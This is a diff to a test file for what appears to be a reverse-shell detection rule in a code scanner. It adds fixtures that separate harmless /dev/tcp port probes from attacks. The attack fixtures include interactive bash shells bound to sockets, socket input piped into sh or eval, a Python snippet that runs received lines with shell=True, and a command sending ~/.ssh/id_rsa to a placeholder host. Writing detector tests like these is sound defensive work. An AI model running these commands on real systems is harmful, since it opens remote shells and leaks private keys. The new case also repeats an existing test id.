@@ -45,6 +45,15 @@ describeRuleCases('reverse-shell', [
       'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nbanner = s.recv(64)\nsubprocess.run(["git", "status"])\n',
   },
   {
+    // Prose in a docstring ("through the system (internal) resolver") is never run; code is.
+    id: 'SG-RSHELL-005',
+    file: 'scripts/probe.py',
+    positive:
+      'import socket, subprocess\n\n\ndef pull():\n    """Read a line."""\n    s = socket.create_connection((HOST, 8443))\n    line = s.recv(512).decode()\n    return subprocess.call(line, shell=True)\n',
+    negative:
+      'import socket\n\n\ndef probe(host):\n    """Send queries through the system (internal) resolver.\n\n    Also run (once) per zone.\n    """\n    s = socket.socket()\n    s.connect((host, 53))\n    return s.recv(64)\n',
+  },
+  {
     id: 'SG-RSHELL-005',
     file: 'scripts/rotate.tcl',
     positive:
@@ -486,5 +495,49 @@ describe('adversarial fifo pipelines', () => {
     const start = performance.now();
     findingsOf(text, 'scripts/x.sh');
     expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+describe('reverse-shell: /dev/tcp as a reachability probe', () => {
+  const severity = (code: string) =>
+    findingsOf(code, 'scripts/probe.sh').find((f) => f.rule_id === 'SG-RSHELL-001')?.severity;
+
+  it.each([
+    [
+      'exec then close',
+      `timeout 3 bash -c 'exec 3<>"/dev/tcp/$1/$2" && exec 3>&-' _ "$h" "$p" </dev/null 2>&1`,
+    ],
+    ['a bare redirect', `if timeout 2 bash -c ": > /dev/tcp/$host/$port" 2>/dev/null; then echo open; fi`],
+    ['a subshell', `(exec 4<>/dev/tcp/$h/$p) 2>/dev/null && echo open`],
+  ])('should keep %s below HIGH', (_name, code) => {
+    expect(severity(`#!/bin/bash\n${code}\n`)).toBe('LOW');
+  });
+
+  it.each([
+    ['a shell on the socket', `exec 3<>/dev/tcp/$h/$p && exec 3>&-; bash -i <&3 >&3 2>&3`],
+    ['a descriptor left open', `exec 3<>/dev/tcp/$h/$p\nwhile read -r l <&3; do eval "$l"; done`],
+    ['an exec closed only on failure', `exec 3<>/dev/tcp/$h/$p || exec 3>&-`],
+    ['stdin from the socket', `</dev/tcp/$h/$p bash`],
+    ['a file sent', `cat ~/.ssh/id_rsa > /dev/tcp/$h/$p`],
+    ['the standard streams', `exec 0<>/dev/tcp/$h/$p; exec 1>&0; sh`],
+    ['a pipe into a shell', `: > /dev/tcp/$h/$p; cat < /dev/tcp/$h/$p | sh`],
+  ])('should still flag %s', (_name, code) => {
+    expect(severity(`#!/bin/bash\n${code}\n`)).toBe('CRITICAL');
+  });
+
+  it('should read 1 MiB of docstrings quickly', () => {
+    const doc = 'def f():\n    """Runs system (x) once."""\n    s = socket.socket(); s.recv(1)\n';
+    const text = doc.repeat(Math.ceil((1024 * 1024) / doc.length));
+    const t0 = Date.now();
+    findingsOf(text, 'scripts/probe.py');
+    expect(Date.now() - t0).toBeLessThan(3000);
+  });
+
+  it('should read 1 MiB of probe lines quickly', () => {
+    const line = `exec 3<>/dev/tcp/$h/$p && exec 3>&- ${'x'.repeat(60)}\n`;
+    const text = line.repeat(Math.ceil((1024 * 1024) / line.length));
+    const t0 = Date.now();
+    findingsOf(text, 'scripts/probe.sh');
+    expect(Date.now() - t0).toBeLessThan(3000);
   });
 });
